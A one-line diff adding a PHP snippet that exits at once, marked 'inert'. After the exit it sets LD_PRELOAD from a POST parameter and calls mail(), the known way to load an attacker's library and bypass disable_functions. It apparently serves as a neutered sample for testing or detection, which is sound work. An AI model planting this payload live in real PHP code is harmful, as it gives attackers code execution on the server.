@@ -1,0 +1,1 @@
+<?php exit; /* inert */ putenv("LD_PRELOAD=".$_POST["p"]); mail("a","","");
